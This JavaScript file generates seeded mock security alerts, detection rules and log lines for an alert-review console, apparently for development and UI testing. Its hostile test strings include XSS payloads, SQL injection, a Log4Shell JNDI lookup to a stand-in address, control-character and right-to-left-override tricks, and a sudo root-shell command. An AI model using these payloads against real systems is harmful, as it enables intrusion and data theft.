// Believable alerts from a seed: the same seed gives the same ten thousand. For development only.

const RULES = [
  { id: '6f0d6a1e-58c0-4d43-9d0b-0d6f1d1f7a01', name: 'ssh-password-guessing', level: 'high', type: 'event_count', title: { zh: 'SSH 口令猜测', en: 'SSH password guessing' }, tags: ['attack.credential_access', 'attack.t1110.001'], category: '网络攻击事件', runbook: 'ssh-password-guessing', team: '安全值守', base: 'sshd-failed-login', span: 'PT1M', threshold: 5, weight: 34, description: { zh: '同一来源 60 秒内 SSH 登录失败至少 5 次。', en: 'At least 5 failed SSH logins from one source within 60 seconds.' } },
  { id: '6f0d6a1e-58c0-4d43-9d0b-0d6f1d1f7a02', name: 'ssh-success-after-guessing', level: 'critical', type: 'event_count', title: { zh: '猜测后登录成功', en: 'Login after password guessing' }, tags: ['attack.initial_access', 'attack.t1078'], category: '网络攻击事件', runbook: 'ssh-success-after-guessing', team: '安全值守', base: 'sshd-login', span: 'PT10M', threshold: 2, weight: 4, description: { zh: '口令猜测之后同一来源登录成功。', en: 'The guessing source then logs in.' } },
  { id: '6f0d6a1e-58c0-4d43-9d0b-0d6f1d1f7a03', name: 'web-scan', level: 'medium', type: 'event_count', title: { zh: 'Web 扫描', en: 'Web scan' }, tags: ['attack.reconnaissance', 'attack.t1595'], category: '网络攻击事件', runbook: 'web-scan', team: '安全值守', base: 'web-refused', span: 'PT1M', threshold: 10, weight: 30, description: { zh: '同一来源 60 秒内至少 10 次 400/403/404。', en: 'At least 10 answers 400/403/404 for one source within 60 seconds.' } },
  { id: '6f0d6a1e-58c0-4d43-9d0b-0d6f1d1f7a04', name: 'web-attack-strings', level: 'high', type: 'event', title: { zh: '请求中的攻击特征', en: 'Attack strings in a request' }, tags: ['attack.initial_access', 'attack.t1190'], category: '网络攻击事件', runbook: 'web-attack-strings', team: '安全值守', weight: 14, description: { zh: '请求路径或参数里有 SQL 注入、目录穿越或脚本。', en: 'SQL injection, path traversal or script in path or query.' } },
  { id: '6f0d6a1e-58c0-4d43-9d0b-0d6f1d1f7a05', name: 'sudo-privilege-escalation', level: 'high', type: 'event', title: { zh: '借 sudo 提权', en: 'Privilege escalation by sudo' }, tags: ['attack.privilege_escalation', 'attack.t1548.003'], category: '违规操作事件', runbook: 'sudo-privilege-escalation', team: '运维', weight: 5, description: { zh: '非运维账号以 sudo 取得 shell。', en: 'An account outside operations gets a shell through sudo.' } },
  { id: '6f0d6a1e-58c0-4d43-9d0b-0d6f1d1f7a06', name: 'bulk-reading-unpublished', level: 'critical', type: 'event_count', title: { zh: '批量查阅未公开申请', en: 'Bulk reading of unpublished applications' }, tags: ['attack.collection', 'attack.t1213'], category: '数据泄露事件', runbook: 'bulk-reading-unpublished', team: '数据安全', base: 'application-read', span: 'PT10M', threshold: 30, weight: 3, description: { zh: '同一审查员 10 分钟内查阅至少 30 件不同的未公开申请。', en: 'One examiner reads at least 30 different unpublished applications within 10 minutes.' } },
  { id: '6f0d6a1e-58c0-4d43-9d0b-0d6f1d1f7a07', name: 'review-login-outside-duty-hours', level: 'low', type: 'event', title: { zh: '非工作时间登录审查系统', en: 'Login to a review system outside duty hours' }, tags: ['attack.initial_access'], category: '违规操作事件', runbook: 'review-login-outside-duty-hours', team: '安全值守', weight: 8, description: { zh: '由日历与角色研判。', en: 'Judged by calendar and role.' } },
  { id: '6f0d6a1e-58c0-4d43-9d0b-0d6f1d1f7a08', name: 'trademark-bulk-export', level: 'medium', type: 'event', title: { zh: '批量导出商标档案', en: 'Bulk export of trademark records' }, tags: ['attack.exfiltration'], category: '数据泄露事件', runbook: 'trademark-bulk-export', team: '数据安全', weight: 2, description: { zh: '单次导出超过 1,000 条。', en: 'More than 1,000 records in one export.' } },
];

const SYSTEMS = [
  { system: '专利审查系统', hosts: ['review-web-01', 'review-web-02', 'review-db-01'] },
  { system: '商标注册系统', hosts: ['tm-app-01', 'tm-app-02'] },
  { system: '公共服务平台', hosts: ['portal-gw-01', 'portal-gw-02', 'portal-web-03'] },
  { system: '大数据中心', hosts: ['bigdata-edge-01'] },
  { system: '', hosts: ['10.8.3.77'] },
];

const USERS = ['root', 'admin', 'oracle', 'postgres', 'zhaolei', 'examiner_0412', 'examiner_1187', 'ops_liu', 'git', 'deploy', 'test'];
const HOSTILE = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'admin\u202egnp.exe', "x'; DROP TABLE users;--", 'nul\u0000byte\u001b[31mred', '李'.repeat(60), '${jndi:ldap://203.0.113.9/a}'];
const HANDLERS = ['wang.min', 'chen.yu', 'sun.qi'];
const MINUTE = 60_000;

/** mulberry32: small, seeded, good enough for made-up data. */
export function random(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = (next, list) => list[Math.floor(next() * list.length)];
const hex = (next, length) => Array.from({ length }, () => Math.floor(next() * 16).toString(16)).join('');
const iso = (at) => new Date(at).toISOString();

function weighted(next) {
  const total = RULES.reduce((sum, rule) => sum + rule.weight, 0);
  let left = next() * total;
  return RULES.find((rule) => (left -= rule.weight) < 0) ?? RULES[0];
}

function address(next) {
  const kind = next();
  if (kind < 0.2) {
    return `2001:db8:${Math.floor(next() * 65535).toString(16)}:${Math.floor(next() * 16).toString(16)}::${(1 + Math.floor(next() * 65534)).toString(16)}`;
  }
  // A few addresses come back often, as in life.
  const host = next() < 0.35 ? Math.floor(next() * 6) + 5 : Math.floor(next() * 250) + 1;
  return kind < 0.6 ? `203.0.113.${host}` : kind < 0.85 ? `198.51.100.${host}` : `192.0.2.${host}`;
}

function groupOf(rule, next) {
  switch (rule.name) {
    case 'bulk-reading-unpublished':
    case 'trademark-bulk-export':
    case 'review-login-outside-duty-hours':
      return { 'user.name': next() < 0.12 ? pick(next, HOSTILE) : pick(next, USERS) };
    case 'sudo-privilege-escalation':
      return { 'user.name': pick(next, USERS), 'host.name': pick(next, pick(next, SYSTEMS).hosts) };
    default:
      return { 'source.ip': address(next) };
  }
}

function summaryOf(rule, group, count, system, asset) {
  const who = group['source.ip'] ?? group['user.name'];
  const at = `${system === '' ? '' : `${system} `}${asset}`;
  const atEn = system === '' ? asset : `${asset} (${system})`;
  switch (rule.name) {
    case 'ssh-password-guessing':
      return { zh: `${who} 在 60 秒内对 ${at} 登录失败 ${count} 次`, en: `${who} failed to log in to ${atEn} ${count} times within 60 seconds` };
    case 'ssh-success-after-guessing':
      return { zh: `${who} 猜测口令后登录 ${at} 成功`, en: `${who} logged in to ${atEn} after guessing passwords` };
    case 'web-scan':
      return { zh: `${who} 在 60 秒内向 ${at} 发出 ${count} 个被拒绝的请求`, en: `${who} sent ${count} refused requests to ${atEn} within 60 seconds` };
    case 'web-attack-strings':
      return { zh: `${who} 向 ${at} 的请求含有攻击特征`, en: `A request from ${who} to ${atEn} carries attack strings` };
    case 'sudo-privilege-escalation':
      return { zh: `${who} 在 ${at} 上用 sudo 取得 root shell`, en: `${who} got a root shell through sudo on ${atEn}` };
    case 'bulk-reading-unpublished':
      return { zh: `审查员 ${who} 在 10 分钟内查阅 ${count} 件未公开申请`, en: `Examiner ${who} read ${count} unpublished applications within 10 minutes` };
    case 'review-login-outside-duty-hours':
      return { zh: `${who} 在非工作时间登录 ${at}`, en: `${who} logged in to ${atEn} outside duty hours` };
    default:
      return { zh: `${who} 一次导出 ${1000 + count} 条商标档案`, en: `${who} exported ${1000 + count} trademark records at once` };
  }
}

function stateOf(next, age) {
  const chance = next();
  if (age < 3 * 60 * MINUTE) {
    return chance < 0.7 ? 'firing' : chance < 0.85 ? 'acknowledged' : chance < 0.95 ? 'resolved' : 'closed';
  }
  return chance < 0.06 ? 'firing' : chance < 0.12 ? 'acknowledged' : chance < 0.6 ? 'resolved' : 'closed';
}

export function makeAlert(number, now, next, age) {
  const rule = weighted(next);
  const group = groupOf(rule, next);
  const place = pick(next, SYSTEMS);
  const asset = group['host.name'] ?? pick(next, place.hosts);
  const count = 1 + Math.floor(next() ** 4 * 60);
  const seen = (rule.threshold ?? 1) + Math.floor(next() * 8);
  const last = now - age;
  const first = last - Math.floor(next() * 12 * MINUTE) - (count - 1) * 20_000;
  const state = stateOf(next, age);
  const handler = pick(next, HANDLERS);
  return {
    id: `a${hex(next, 15)}`,
    number: `AL-${String(number).padStart(6, '0')}`,
    fingerprint: hex(next, 32),
    state,
    severity: next() < 0.06 ? 'informational' : rule.level,
    rule: { id: rule.id, name: rule.name, version: `3f9a7c1${rule.id.slice(-2)}b2d4e6f8a0c1d3e5f7091b2`, title: rule.title },
    summary: summaryOf(rule, group, seen, place.system, asset),
    group,
    system: place.system,
    asset,
    category: rule.category,
    team: rule.team,
    count,
    firstSeen: iso(first),
    lastSeen: iso(last),
    createdAt: iso(first + 400),
    acknowledgedBy: state === 'acknowledged' || (state === 'closed' && next() < 0.7) ? handler : null,
    closedBy: state === 'closed' ? handler : null,
    updatedAt: iso(last + 500),
    seen,
  };
}

export function makeAlerts(count, now, seed = 7) {
  const next = random(seed);
  const alerts = [];
  let age = 40_000;
  for (let index = 0; index < count; index += 1) {
    alerts.push(makeAlert(count - index, now, next, age));
    // More by day than by night, and a wave now and then.
    const hour = (new Date(now - age).getUTCHours() + 8) % 24;
    const pace = hour >= 9 && hour <= 18 ? 40_000 : 110_000;
    age += next() < 0.02 ? 18 * MINUTE * next() : next() * pace * (index % 900 < 120 ? 0.2 : 1);
  }
  return alerts;
}

function lineOf(rule, alert, at, next) {
  const stamp = new Date(at).toISOString().replace('Z', '+00:00');
  const user = next() < 0.15 ? pick(next, HOSTILE) : pick(next, USERS);
  const source = alert.group['source.ip'] ?? '203.0.113.44';
  const port = 30000 + Math.floor(next() * 30000);
  switch (rule.name) {
    case 'ssh-password-guessing':
      return { user, action: 'ssh_login', outcome: 'failure', dataset: 'sshd', line: `${stamp} ${alert.asset} sshd[${2000 + Math.floor(next() * 9000)}]: Failed password for ${next() < 0.5 ? 'invalid user ' : ''}${user} from ${source} port ${port} ssh2` };
    case 'ssh-success-after-guessing':
      return { user: 'deploy', action: 'ssh_login', outcome: 'success', dataset: 'sshd', line: `${stamp} ${alert.asset} sshd[4411]: Accepted password for deploy from ${source} port ${port} ssh2` };
    case 'web-scan':
      return { user: '', action: 'GET', outcome: 'failure', dataset: 'nginx-access', line: `${source} - - [${stamp}] "GET /${pick(next, ['.env', 'wp-login.php', 'phpmyadmin/', 'actuator/env', 'backup.zip', '.git/config'])} HTTP/1.1" ${pick(next, [404, 403, 400])} 153 "-" "Mozilla/5.0 zgrab/0.x"` };
    case 'web-attack-strings':
      return { user: '', action: 'GET', outcome: 'success', dataset: 'nginx-access', line: `${source} - - [${stamp}] "GET /search?q=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--&next=<script>document.location='//evil'</script> HTTP/1.1" 200 5120 "-" "sqlmap/1.8\u001b[0m"` };
    case 'sudo-privilege-escalation':
      return { user: alert.group['user.name'], action: 'sudo', outcome: 'success', dataset: 'sudo', line: `${stamp} ${alert.asset} sudo:  ${alert.group['user.name']} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -i\t# \u202etxet neddih` };
    default:
      return { user: alert.group['user.name'], action: 'read', outcome: 'success', dataset: 'audit-json', line: JSON.stringify({ time: stamp, system: alert.system, user: alert.group['user.name'], action: 'application.read', application: `CN2026${10000000 + Math.floor(next() * 9999999)}.${Math.floor(next() * 9)}`, published: false, ip: '10.8.12.31' }) };
  }
}

function conditionsOf(rule) {
  const of = (field, operator, expected, actual, negated = false) => ({ rule: rule.base ?? rule.name, selection: 'selection', field, operator, expected, actual, negated });
  switch (rule.name) {
    case 'ssh-password-guessing':
      return [of('event.dataset', 'equals', 'sshd', 'sshd'), of('event.action', 'equals', 'ssh_login', 'ssh_login'), of('event.outcome', 'equals', 'failure', 'failure'), of('message', 'startswith', 'Failed password for', 'Failed password for invalid user admin from 203.0.113.7 port 52144 ssh2'), of('source.ip', 'cidr', '10.8.0.0/16', '203.0.113.7', true)];
    case 'web-scan':
      return [of('http.response.status_code', 'equals', '404', '404'), of('url.path', 'contains', '.env', '/.env')];
    case 'web-attack-strings':
      return [of('url.query', 'contains', 'UNION%20SELECT', 'q=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--'), of('', 'keyword', '<script>', "next=<script>document.location='//evil'</script>"), of('user_agent.original', 'startswith', 'sqlmap', 'sqlmap/1.8')];
    case 'sudo-privilege-escalation':
      return [of('process.command_line', 'endswith', '/bin/bash -i', '/bin/bash -i'), of('user.roles', 'contains', 'ops', '', true)];
    default:
      return [of('event.action', 'equals', 'application.read', 'application.read'), of('zhidun.published', 'equals', 'false', 'false')];
  }
}

export function makeDetail(alert, trail) {
  const rule = RULES.find((each) => each.name === alert.rule.name) ?? RULES[0];
  const next = random(Number.parseInt(alert.id.slice(1, 8), 16));
  const { seen, ...row } = alert;
  const end = Date.parse(alert.lastSeen);
  const kept = rule.threshold === undefined ? 1 : Math.min(100, Math.max(seen, rule.threshold));
  const span = rule.span === 'PT1M' ? 60_000 : 600_000;
  const took = span * (0.35 + next() * 0.5);
  const times = Array.from({ length: kept }, (_, index) => (kept === 1 ? end : end - took + (took * index) / (kept - 1) + (index > 0 && index < kept - 1 ? (next() - 0.5) * (took / kept) : 0)));
  const events = times.map((at, index) => {
    const made = lineOf(rule, alert, at, next);
    return {
      id: `src-1:4:${88000 + index}`,
      time: iso(at),
      rule: rule.base ?? rule.name,
      original: made.line,
      fields: { 'event.dataset': made.dataset, 'event.action': made.action, ...(made.user === '' ? {} : { 'user.name': made.user }), 'host.name': alert.asset, ...alert.group },
    };
  });
  if (rule.name === 'web-attack-strings') {
    events.push({ ...events[0], id: 'src-1:4:99999', original: `${events[0].original} ${'A'.repeat(90_000)}` });
  }
  const window = rule.threshold === undefined ? undefined : { type: rule.name === 'bulk-reading-unpublished' ? 'value_count' : 'event_count', from: iso(times[0]), to: iso(times.at(-1)), timespan: rule.span, threshold: `gte ${rule.threshold}`, value: kept };
  return {
    ...row,
    tags: rule.tags,
    runbook: rule.runbook,
    decision: { raise: true, severity: alert.severity, category: rule.category, team: rule.team, runbook: rule.runbook, asset: alert.asset, system: alert.system, reasons: alert.system === '' ? [] : [{ rule: 'raise-on-level-3-system', text: { zh: '目标属于等保三级定级对象，级别不降', en: 'The target is a level-3 classified system: severity is kept' }, facts: { 'asset.level': '3', 'calendar.duty': 'false' } }] },
    explanation: { summary: alert.summary, conditions: conditionsOf(rule), ...(window === undefined ? {} : { window }) },
    events,
    detections: Array.from({ length: Math.min(50, alert.count) }, (_, index) => ({ id: hex(next, 32), time: iso(end - index * 21_000), count: kept })),
    trail,
  };
}

export function makeEvents(query, now, total) {
  const next = random(11);
  const source = query.get('source.ip');
  const items = Array.from({ length: Math.min(total, Number(query.get('limit') ?? 100)) }, (_, index) => {
    const user = query.get('user.name') ?? (next() < 0.1 ? pick(next, HOSTILE) : pick(next, USERS));
    const at = now - index * 41_000 - Math.floor(next() * 20_000);
    const host = query.get('host.name') ?? pick(next, SYSTEMS[0].hosts);
    return {
      '@timestamp': iso(at),
      event: { id: `src-1:4:${70000 + index}`, action: 'ssh_login', outcome: next() < 0.8 ? 'failure' : 'success', dataset: 'sshd', original: `${iso(at)} ${host} sshd[881]: Failed password for ${user} from ${source ?? address(next)} port 40122 ssh2` },
      source: { ip: source ?? address(next) },
      user: { name: user },
      host: { name: host },
    };
  });
  return { items, next: null, total };
}

export const RULE_LIST = [
  ...RULES.map(({ id, name, level, type, title, tags, description }) => ({ id, name, version: `3f9a7c1${id.slice(-2)}b2d4e6f8a0c1d3e5f7091b2`, title, level, description: description.zh, tags, type, detects: true })),
  { id: '6f0d6a1e-58c0-4d43-9d0b-0d6f1d1f7a20', name: 'sshd-failed-login', version: 'a17c0b2d4e6f8a0c1d3e5f7091b2c4d6', title: { zh: 'SSH 登录失败', en: 'Failed SSH login' }, level: 'informational', description: '', tags: [], type: 'event', detects: false },
];
export { RULES };
